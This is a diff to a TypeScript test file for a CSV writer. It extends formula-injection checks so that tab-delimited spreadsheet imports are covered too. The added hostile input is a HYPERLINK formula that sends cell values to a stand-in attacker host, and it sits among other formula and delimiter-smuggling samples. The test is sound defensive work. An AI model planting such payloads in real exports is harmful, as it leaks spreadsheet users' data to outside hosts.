@@ -1,6 +1,6 @@
 /**
  * Every CSV the app writes, read back the way spreadsheets read it: split on `,` (the file's
- * delimiter, quotes honoured) and on `;` (German Excel). No cell may start a formula under
+ * delimiter, quotes honoured), on `;` (German Excel) and on tabs (a text import with Tab ticked). No cell may start a formula under
  * either reader, and every value must come back from the comma reader — neutralised cells
  * differ only by the apostrophes put in front of formula characters.
  */
@@ -26,11 +26,12 @@ const HOSTILE = [
   'x;"=1"',
   'Sagt "ja"',
   '+49 30 1234567',
+  'Rueckruf\t=HYPERLINK("https://evil.example/"&E2&F2)',
 ];
 const CLEAN = ['Müller', 'Lindenallee 7', '10115', 'kunde@example.org', ''];
 
 /** Cells of a CSV text (BOM dropped) split on the given delimiter, quotes as papaparse reads them. */
-function read(csv: string, delimiter: ',' | ';'): string[][] {
+function read(csv: string, delimiter: ',' | ';' | '\t'): string[][] {
   expect(csv.charCodeAt(0)).toBe(0xfeff);
   return Papa.parse<string[]>(csv.slice(1), { delimiter, newline: '\r\n', skipEmptyLines: true }).data;
 }
@@ -40,7 +41,7 @@ const unneutralise = (cell: string) => cell.replace(/'(?=[=+\-@\t\r])/g, '');
 
 /** Under a semicolon reader, Papaparse splits even inside a quoted cell; so does Excel. */
 function cellsStartingFormulas(csv: string): string[] {
-  return [...read(csv, ','), ...read(csv, ';')].flat().filter((c) => /^[=+\-@\t\r]/.test(c));
+  return [...read(csv, ','), ...read(csv, ';'), ...read(csv, '\t')].flat().filter((c) => /^[=+\-@\t\r]/.test(c));
 }
 
 describe('the shared CSV writer', () => {
@@ -50,11 +51,11 @@ describe('the shared CSV writer', () => {
     expect(cellsStartingFormulas(csv)).toEqual([]);
     // A line break inside a quoted cell, read by a semicolon reader, starts a new line whose first
     // cell must be harmless too: check the raw text after every CR/LF, `;` and `,`.
-    expect(csv.slice(1).match(/(^|[,;\r\n])[ "]*[=+\-@\t]/g) ?? []).toEqual([]);
+    expect(csv.slice(1).match(/(^|[,;\t\r\n])[ "]*[=+\-@\t]/g) ?? []).toEqual([]);
   });
 
-  it('quotes every value holding a semicolon, comma, quote or line break, and no other', () => {
-    for (const v of [...HOSTILE, ...CLEAN]) expect(/^".*"$/s.test(csvField(v))).toBe(/[;,"\r\n]/.test(v));
+  it('quotes every value holding a semicolon, comma, tab, quote or line break, and no other', () => {
+    for (const v of [...HOSTILE, ...CLEAN]) expect(/^".*"$/s.test(csvField(v))).toBe(/[;,\t"\r\n]/.test(v));
   });
 
   it('gives back every value through the comma reader', () => {
